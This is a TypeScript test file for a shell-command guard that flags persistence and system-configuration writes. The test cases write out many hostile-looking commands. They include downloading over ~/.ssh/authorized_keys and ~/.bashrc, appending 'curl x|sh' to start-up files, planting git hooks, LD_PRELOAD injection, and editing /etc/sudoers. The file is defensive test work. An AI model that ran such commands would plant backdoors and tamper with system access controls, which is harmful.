/** biome-ignore-all lint/suspicious/noTemplateCurlyInString: these strings are shell commands, not templates */
import { beforeAll, describe, it } from "vitest";
import { createCommandGuard } from "../../platform/index.js";
import type { CommandGuard } from "../command-guard.js";
import { expectAllowed, expectFinding } from "../guard-test-helpers.fixture.js";
import type { CommandRule } from "../verdict/index.js";

let guard: CommandGuard;
beforeAll(async () => {
  guard = await createCommandGuard();
});

describe("persistence: start-up files, authorized_keys, at/batch, LD_PRELOAD", () => {
  it.each<[string, CommandRule]>([
    ["curl -o ~/.ssh/authorized_keys https://x.example/k", "soft.persistence"],
    ["curl --output ~/.ssh/authorized_keys https://x.example/k", "soft.persistence"],
    ["curl --out ~/.ssh/authorized_keys https://x.example/k", "soft.persistence"],
    ['curl -sSL -o "$HOME/.bashrc" https://x.example/rc', "soft.persistence"],
    ["wget -O ~/.bashrc https://x.example/rc", "soft.persistence"],
    ["wget --output-document=$HOME/.profile https://x.example/p", "soft.persistence"],
    ["wget -P ~ https://x.example/.bashrc", "soft.persistence"],
    ["sort -o ~/.profile x", "soft.persistence"],
    ["sort -o/home/u/.zshrc in", "soft.persistence"],
    ["sort --output ~/.bashrc in", "soft.persistence"],
    ["awk '{print > \"/home/u/.bashrc\"}' x", "soft.persistence"],
    ["awk '{ print >> \"/root/.bashrc\" }' x", "soft.persistence"],
    ["echo x | tee -a ~/.zshrc", "soft.persistence"],
    ["cp x ~/.bashrc", "soft.persistence"],
    ["cp .bashrc ~/", "soft.persistence"],
    ["cp -t ~ .bashrc", "soft.persistence"],
    ["ln -sf /tmp/evil ~/.bashrc", "soft.persistence"],
    ["install x ~/.ssh/authorized_keys", "soft.persistence"],
    ["rsync x ~/.profile", "soft.persistence"],
    ["echo x >> ~/.profile", "soft.persistence"],
    ['echo "export PATH=$HOME/bin:$PATH" >> ~/.bashrc', "soft.persistence"],
    ["echo x >| ${HOME}/.bash_profile", "soft.persistence"],
    ["sed -i.bak -e s/a/b/ ~/.bashrc", "soft.persistence"],
    ["tee ~/.config/autostart/x.desktop < x", "soft.persistence"],
    ["wget -e output_document=/home/u/.bashrc https://x.example/rc", "soft.persistence"],
    ["cp -r dotfiles/. ~/", "soft.persistence"],
    ["rsync -a dotfiles/ ~/", "soft.persistence"],
    ["echo x > .git/hooks/pre-commit", "soft.persistence"],
    ["cp hook .git/hooks/post-checkout", "soft.persistence"],
    // A relative `cd` is followed: `pre-commit` is `.git/hooks/pre-commit` (was allowed).
    ["cd .git/hooks && cp ../../hook.sh pre-commit", "soft.persistence"],
    ["cd .git; cd hooks; ln -s ../../x.sh post-merge", "soft.persistence"],
    ["env -S 'curl -o /home/u/.bashrc https://x.example/rc'", "soft.persistence"],
    ["echo x > ~/.config/systemd/user/x.service", "soft.persistence"],
    ["sudo -u bob cp x /home/bob/.ssh/authorized_keys", "soft.persistence"],
    ["echo reboot | at now", "soft.persistence"],
    ["at now + 1 minute", "soft.persistence"],
    ["at -f job.sh now", "soft.persistence"],
    ["batch", "soft.persistence"],
    ["/usr/bin/at midnight", "soft.persistence"],
    ["systemctl --user enable x.service", "soft.persistence"],
    ["git config --global core.pager 'less; curl x'", "soft.persistence"],
    ["git config core.fsmonitor /tmp/x", "soft.persistence"],
    ["LD_LIBRARY_PATH=/tmp ls", "soft.env-injection"],
    ["sudo LD_PRELOAD=/tmp/x.so ls", "soft.env-injection"],
    ["env LD_PRELOAD=/tmp/x.so ls", "soft.env-injection"],
    ["export LD_PRELOAD=/tmp/x.so; ls", "soft.env-injection"],
    ["export LD_LIBRARY_PATH=/tmp/evil", "soft.env-injection"],
    ["LD_AUDIT=/tmp/a.so ls", "soft.env-injection"],
  ])("asks for %j (%s)", (command, rule) => expectFinding(guard, command, "ask", rule));

  it.each([
    ["cp .bashrc dotfiles/.bashrc"],
    ["sort -o out.txt in.txt"],
    ["curl -o out.json https://example.com/x"],
    ["wget https://example.com/file.tgz"],
    ["at -l"],
    ["atq"],
    ["cat ~/.bashrc"],
    ["grep alias ~/.zshrc"],
    ["git config user.name me"],
    ["mkdir -p ~/.cache/app && cp config.json ~/.cache/app/"],
  ])("leaves %j alone", (command) => expectAllowed(guard, command));
});

describe("a glob or an archive writes a protected path when some expansion of it can", () => {
  // Each was allowed before: the protected paths were matched as text.
  it.each<[string, CommandRule]>([
    ["cp x .gi?/hoo?s/pre-commit", "soft.persistence"],
    ["cp x .git/hook[s]/pre-commit", "soft.persistence"],
    ["ln -s ../../x.sh .[g]it/*/post-merge", "soft.persistence"],
    ["echo x > .gi?/config", "soft.persistence"],
    ["echo 'curl x|sh' >> ~/.b*rc", "soft.persistence"],
    ["cp k ~/.ss?/authorized_key?", "soft.persistence"],
    ["cp x ~/.config/autostart/*", "soft.persistence"],
    ["cp job /var/spool/cro?/crontabs/x", "soft.crontab"],
    ["tar -xf h.tar -C .git/hooks", "soft.persistence"],
    ["tar xzf h.tgz -C .git/hooks", "soft.persistence"],
    ["tar --extract --file=h.tar --directory=.git/hooks", "soft.persistence"],
    ["unzip h.zip -d .git/hooks", "soft.persistence"],
    ["unzip -o h.zip -d.git/hooks", "soft.persistence"],
    ["7z x h.7z -o.git/hooks", "soft.persistence"],
    ["cd .git/hooks && tar -xf ../../h.tar", "soft.persistence"],
    ["tar -xf dotfiles.tar -C ~", "soft.persistence"],
    ["cd .git && unzip ../cfg.zip", "soft.persistence"],
    // Members land at any depth below the directory: what could land there decides.
    ["tar -xf h.tar", "soft.persistence"],
    ["tar -xf h.tar --strip-components=2", "soft.persistence"],
    ["tar -xf h.tar -C .git", "soft.persistence"],
    ["bsdtar -xf h.tar -C .git", "soft.persistence"],
    ["unzip h.zip -d x/.git", "soft.persistence"],
    ["cpio -idm -D .git < h.cpio", "soft.persistence"],
    ["tar -xf h.tar -C ~/.config", "soft.persistence"],
    ["tar -xf h.tar -C ~/.ssh", "soft.persistence"],
    ["tar -xf h.tar -C /", "soft.persistence"],
    ["tar -xf h.tar -C ..", "soft.persistence"],
    ["cd .. && tar -xf h.tar", "soft.persistence"],
    ["unzip h.zip -d ../..", "soft.persistence"],
    ["cd src && bsdtar -xf ../h.tar -C ..", "soft.persistence"],
    // Absolute and `..` member names: anywhere.
    ["tar -xPf h.tar -C build", "soft.persistence"],
    ["tar --absolute-names -xf h.tar -C build", "soft.persistence"],
    ["unzip -: h.zip -d build", "soft.persistence"],
    ["cpio -i -D build < h.cpio", "soft.persistence"],
  ])("asks for %j (%s)", (command, rule) => expectFinding(guard, command, "ask", rule));

  it.each([
    ["tar -xzf a.tgz -C build"],
    ["tar -tf a.tar"],
    ["tar -czf a.tgz src"],
    ["unzip -l a.zip"],
    ["unzip a.zip -d out"],
    ["cd build && tar -xf ../h.tar"],
    ["tar -xf h.tar -C /tmp/release"],
    ["cpio -idm --no-absolute-filenames -D build < h.cpio"],
    ['tar -xzf "$ARCHIVE" -C "$DEST"'],
    ["cp src/*.ts dist/"],
    ["cp docs/hook?.md notes/"],
  ])("leaves %j alone", (command) => expectAllowed(guard, command));
});

describe("system configuration writes", () => {
  it.each<[string, CommandRule]>([
    ["echo 1.2.3.4 x >> /etc/hosts", "soft.system-config-write"],
    ["cp hosts /etc/hosts", "soft.system-config-write"],
    ["cp x /etc/sudoers", "soft.system-config-write"],
    ["mv x /etc/sudoers.d/x", "soft.system-config-write"],
    ["mv x /etc/ssh/sshd_config", "soft.system-config-write"],
    ["sed -i s/a/b/ /etc/hosts", "soft.system-config-write"],
    ["sed -i '$a x' /etc/sudoers", "soft.system-config-write"],
    ["sudo sed -ie 's/a/b/' /etc/hosts", "soft.system-config-write"],
    ["echo x | sudo tee -a /etc/sudoers.d/x", "soft.system-config-write"],
    ["echo /tmp/x.so > /etc/ld.so.preload", "soft.system-config-write"],
    ["cp x.service /etc/systemd/system/", "soft.system-config-write"],
    ["cd /etc && echo x > hosts", "soft.system-config-write"],
    ["echo x | tee /etc/cron.d/x", "soft.crontab"],
    ['gawk \'BEGIN{printf "x" > "/etc/cron.d/x"}\'', "soft.crontab"],
  ])("asks for %j (%s)", (command, rule) => expectFinding(guard, command, "ask", rule));

  it.each([["cat /etc/hosts"], ["ls /etc"], ["grep -r x /etc/nginx"], ["cp /etc/hosts hosts.bak"]])(
    "leaves %j alone",
    (command) => expectAllowed(guard, command),
  );
});
